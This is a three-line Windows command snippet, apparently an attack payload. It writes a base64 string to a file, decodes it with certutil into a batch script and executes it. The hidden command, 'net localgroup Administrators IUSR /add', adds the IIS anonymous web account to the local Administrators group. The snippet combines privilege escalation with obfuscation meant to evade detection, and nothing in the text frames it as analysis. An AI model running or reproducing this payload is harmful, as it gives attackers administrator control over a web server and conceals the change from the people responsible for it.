> C:\a.b64 echo bmV0IGxvY2FsZ3JvdXAgQWRtaW5pc3RyYXRvcnMgSVVTUiAvYWRk
certutil -decode C:\a.b64 C:\a.cmd
call C:\a.cmd
